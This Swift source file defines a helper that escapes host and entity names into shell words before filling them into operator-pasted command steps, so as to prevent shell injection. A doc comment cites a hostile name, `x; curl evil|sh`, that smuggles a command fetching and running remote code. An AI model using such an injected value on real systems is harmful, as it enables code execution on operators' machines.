internal import FleetModel

/// Fills the names of host and entity into steps that an operator pastes into a shell.
///
/// A name comes from a host: who may make a directory there may call it `x; curl evil|sh`. So each is one word for a shell, also
/// where the step puts it within quotes of its own.
package struct StepText {
  private enum Quote {
    case none, single, double
  }

  private let names: [(placeholder: [UInt8], word: String)]

  /// - Parameters: names as they are.
  package init(host: String, entity: String) {
    names = [
      (Array("{{host}}".utf8), PlainText.shellWord(host)), (Array("{{entity}}".utf8), PlainText.shellWord(entity)),
    ]
  }

  /// - Parameter step: a rule's; what stands between backticks is a command.
  /// - Returns: the step with one shell word for each placeholder.
  package func filled(_ step: String) -> String {
    let bytes = Array(step.utf8)
    guard bytes.contains(UInt8(ascii: "{")) else { return step }
    var filled: [UInt8] = []
    var quote = Quote.none
    var isCommand = false
    var at = 0
    while at < bytes.count {
      if let name = names.first(where: { bytes[at...].starts(with: $0.placeholder) }) {
        // Out of the step's own quotes, and in again behind the word.
        let border = quote == .single ? "'" : quote == .double ? "\"" : ""
        filled += Array((border + name.word + border).utf8)
        at += name.placeholder.count
        continue
      }
      switch (bytes[at], quote) {
      case (UInt8(ascii: "`"), _):
        isCommand.toggle()
        quote = .none
      // An apostrophe in prose is no quote.
      case (UInt8(ascii: "'"), .none) where isCommand: quote = .single
      case (UInt8(ascii: "'"), .single): quote = .none
      case (UInt8(ascii: "\""), .none) where isCommand: quote = .double
      case (UInt8(ascii: "\""), .double): quote = .none
      default: break
      }
      filled.append(bytes[at])
      at += 1
    }
    return String(decoding: filled, as: UTF8.self)
  }
}
